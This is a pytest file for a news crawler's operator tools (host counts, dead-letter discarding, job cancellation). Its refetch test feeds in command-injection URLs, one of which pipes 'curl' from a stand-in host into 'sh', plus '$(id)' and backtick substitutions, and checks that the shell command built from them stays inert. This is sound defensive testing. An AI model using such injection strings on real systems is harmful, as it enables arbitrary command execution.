"""What operators do to the store: dead letters that are given up, hosts of a crawl job, jobs that are cancelled."""

from __future__ import annotations

import shlex
from datetime import UTC, datetime
from typing import Any

import pytest
from pymongo.database import Database
from scrapy.settings import Settings

from newscrawler.frontier.inspection import NoSuchRequestError, dead_letters, discard, hosts
from newscrawler.items import Rejection
from newscrawler.operations.jobs import NoSuchJobError, cancel
from newscrawler.operations.quarantine import refetch_command
from newscrawler.program import program
from newscrawler.scrapyd.jobs import AttemptResult, JobQueue
from tests.support.frontier_store import stored_crawl_job

Documents = Database[dict[str, Any]]


@pytest.fixture
def prepared(database: Documents) -> Documents:
    return database


def test_hosts_of_a_crawl_job_are_counted_with_the_worker_that_asks_them(prepared: Documents) -> None:
    job = stored_crawl_job(prepared)
    ([host], is_whole) = hosts(prepared, job.id, 10)
    assert (host.name, host.open, host.owner, is_whole) == ("japantoday.com", 2, "worker-1", True)
    with pytest.raises(NoSuchRequestError, match="'nothing' is no crawl job"):
        hosts(prepared, "nothing", 10)


def test_a_dead_letter_that_is_given_up_is_removed_and_nothing_else_is(prepared: Documents) -> None:
    stored_crawl_job(prepared)
    (letter,) = dead_letters(prepared)
    others = [each["_id"].hex() for each in prepared["frontier"].find({"died": {"$exists": False}})]
    assert discard(prepared, [letter.id, *others]) == 1
    assert list(dead_letters(prepared)) == []
    assert prepared["frontier"].count_documents({}) == 3


@pytest.mark.parametrize("stage", ["discovery", "comments", "fetch", "extraction"])
@pytest.mark.parametrize(
    "url",
    [
        "https://a.example;curl${IFS}b.example|sh/feed",
        "https://$(id).a.example/feed",
        "https://`id`.a.example:80/",
        "https://[not an address/feed",
        "https://a.example'/feed",
        "https://a.example/\x1b[2J",
    ],
)
def test_a_command_that_is_offered_for_an_address_of_strangers_runs_no_other(url: str, stage: Any) -> None:
    settings = Settings()
    settings.setmodule("newscrawler.settings")
    refused = Rejection(url=url, stage=stage, reason="no list", retrieved=datetime(2026, 3, 1, tzinfo=UTC))
    command = refetch_command(refused, settings)
    words = list(shlex.shlex(command, posix=True, punctuation_chars=True))
    assert shlex.split(command)[:-1] == [program(), "crawl", "outlet", "-a"]
    assert len(shlex.split(command)) == 5
    assert command.isprintable()
    assert not any(set(word) <= set("();<>|&") for word in words)
    # What a shell would put in place of a text stands between quotation marks, where it puts nothing.
    assert not any(sign in part for part in command.split("'")[::2] for sign in "$`")


def test_a_pending_job_is_cancelled_at_once(prepared: Documents) -> None:
    id = JobQueue(prepared).add("newscrawler", "japantoday")
    assert cancel(prepared, id, "web:mari") == "cancelled"
    stored = prepared["jobs"].find_one({"_id": id})
    assert (stored["state"], stored["cancel"]["by"]) == ("cancelled", "web:mari")


def test_the_node_of_a_running_job_is_asked_to_end_it(prepared: Documents) -> None:
    queue = JobQueue(prepared)
    id = queue.add("newscrawler", "japantoday")
    lease, _ = queue.take("node-1", "north", ["newscrawler"])
    assert cancel(prepared, id, "web:mari") == "asked"
    _, asked = queue.renew(lease, pid=7)
    assert (asked["signal"], asked["by"], asked["times"]) == ("TERM", "web:mari", 1)
    assert cancel(prepared, id, "web:mari") == "asked"
    assert queue.renew(lease, pid=7)[1]["times"] == 2


def test_a_job_that_is_over_or_was_never_there_is_not_cancelled(prepared: Documents) -> None:
    queue = JobQueue(prepared)
    id = queue.add("newscrawler", "japantoday")
    lease, _ = queue.take("node-1", "north", ["newscrawler"])
    queue.end(lease, AttemptResult(kind="done", reason="finished"))
    with pytest.raises(NoSuchJobError, match="is over: finished"):
        cancel(prepared, id, "web:mari")
    with pytest.raises(NoSuchJobError, match="there is no job 'nothing'"):
        cancel(prepared, "nothing", "web:mari")
